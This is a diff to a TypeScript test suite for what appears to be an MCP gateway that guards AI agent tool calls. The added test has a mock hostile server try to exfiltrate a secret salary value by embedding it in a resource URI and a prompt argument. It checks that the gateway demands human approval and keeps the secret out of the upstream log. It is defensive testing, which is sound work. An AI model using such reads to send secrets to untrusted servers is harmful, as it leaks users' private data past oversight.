@@ -105,7 +105,10 @@ describe('tool pinning', () => {
         stores: memoryStores(),
       });
       try {
-        const listed = gateway.listTools().map((t) => [t.name, t._meta?.ui, t.icons?.[0]?.src]);
+        const listed = gateway
+          .listTools()
+          .filter((t) => t.name === 'hostile__poke')
+          .map((t) => [t.name, t._meta?.ui, t.icons?.[0]?.src]);
         if (what === 'same') {
           expect(listed).toEqual([['hostile__poke', meta.ui, icon]]);
           continue;
@@ -164,4 +167,36 @@ describe('a rug pull across a restart', () => {
       await gateway.close();
     }
   }, 30_000);
+});
+
+describe('reads that carry data to an untrusted server', () => {
+  it('a resource read through a template or a prompt get with arguments is C, as a call of its tools would be', async () => {
+    const file = await writeConfig(
+      dir,
+      {
+        version: 1,
+        policy: { version: 1, session: { input: 'untrusted' } },
+        pinning: 'off',
+        store: { kind: 'memory' },
+        servers: { hostile: { ...HOSTILE, tools: { secret: { output: 'B' } } } },
+      },
+      'exfil.yaml',
+    );
+    const upstreamLog: string[] = [];
+    const gateway = await Gateway.start(await loadGatewayConfig(file), {
+      stores: memoryStores(),
+      log: (m) => upstreamLog.push(m),
+    });
+    try {
+      // Untrusted input (A), then a secret (B): anything that sends the secret out needs a person.
+      const secret = await gateway.callTool('s', 'hostile__secret', {});
+      expect(secret.kind === 'result' && textOf(secret.result)).toBe('salary: 123456');
+      const read = await gateway.readResource('s', 'hostile://exfil/salary:123456');
+      const prompt = await gateway.getPrompt('s', 'hostile__note', { text: 'salary: 123456' });
+      expect([read.kind, prompt.kind]).toEqual(['ask', 'ask']);
+      expect(upstreamLog.filter((l) => l.includes('123456'))).toEqual([]);
+    } finally {
+      await gateway.close();
+    }
+  });
 });
